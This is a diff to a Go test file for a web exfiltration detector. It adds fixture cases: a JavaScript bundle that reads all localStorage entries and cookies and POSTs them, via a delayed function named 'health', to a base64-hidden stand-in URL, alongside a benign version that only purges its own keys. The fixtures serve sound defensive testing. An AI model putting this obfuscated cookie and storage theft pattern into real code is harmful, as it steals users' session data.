@@ -13,6 +13,17 @@ var pad = strings.Repeat("var a = b + c;\n", 40000)
 
 func TestPageExfil(t *testing.T) {
 	rt.Check(t, PageExfil{}, []rt.Case{
+		// a UMD bundle reading the store it keeps in a variable key by
+		// key, with the cookies, to a decoded URL; the same library
+		// reading only its own keys, sending nothing
+		{"umd_store_loop_cookies", map[string]string{"dist/s.js": `(function (root, factory) { if (typeof module === "object") module.exports = factory(root); else root.S = factory(root) })(typeof self !== "undefined" ? self : this, function (g) {
+  var store = g.localStorage; store.setItem("x", "1");
+  function health() { var snap = {}; for (var i = 0; i < store.length; i++) { var k = store.key(i); snap[k] = store.getItem(k) } g.fetch(g.atob("aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC9i"), { method: "POST", body: JSON.stringify({ c: g.document.cookie, s: snap }) }) }
+  setTimeout(health, 9000); return {} })`}, finding.SeverityCritical},
+		{"umd_store_own_keys", map[string]string{"dist/s.js": `(function (root, factory) { if (typeof module === "object") module.exports = factory(root); else root.S = factory(root) })(typeof self !== "undefined" ? self : this, function (g) {
+  var store = g.localStorage; store.setItem("x", "1");
+  function purge() { for (var i = store.length - 1; i >= 0; i--) { var k = store.key(i); if (k.indexOf("__s:") === 0 && store.getItem(k) === "") store.removeItem(k) } }
+  return { purge: purge } })`}, finding.SeverityNone},
 		// both stores walked through a loop variable, with the cookies
 		{"stores_in_loop", map[string]string{"index.js": `const snap = { cookie: document.cookie, entries: {} };
 for (const area of [window.localStorage, window.sessionStorage]) for (let i = 0; i < area.length; i++) { const k = area.key(i); snap.entries[k] = area.getItem(k) }
